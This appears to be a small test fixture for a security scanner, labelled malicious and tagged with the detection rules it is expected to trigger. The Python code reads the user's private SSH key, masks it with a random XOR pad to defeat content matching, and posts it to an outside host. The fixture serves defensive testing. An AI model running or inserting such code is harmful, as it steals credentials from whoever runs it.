# does: encrypts the SSH key with a random pad and posts it: the bytes cannot be recognised, their way can
# kind: malicious
# expect: SEN-002|SEN-003 medium low
import os
import urllib.request

key = open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read()
pad = os.urandom(len(key))
urllib.request.urlopen("https://sync.dropzone-files.net/u", bytes(a ^ b for a, b in zip(key, pad, strict=True))).read()
